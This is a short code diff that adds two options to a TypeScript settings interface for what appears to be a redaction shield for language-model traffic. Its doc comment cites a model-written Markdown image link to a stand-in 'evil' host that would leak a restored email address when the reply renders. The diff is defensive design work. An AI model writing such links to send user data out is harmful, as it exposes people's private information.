@@ -74,6 +74,13 @@ export interface ShieldOptions {
   maxInputBytes?: number;
   /** Action per entity kind; kinds not listed are redacted. */
   policy?: Partial<Record<EntityKind, Action>>;
+  /**
+   * Restore originals inside URLs and Markdown link destinations in replies (default false:
+   * a model-written `![](https://evil/?q=[EMAIL_1])` would send the original away on render).
+   */
+  restoreInLinks?: boolean;
+  /** Restore originals inside HTML tags in replies (default false). */
+  restoreInMarkup?: boolean;
 }
 "#;
 
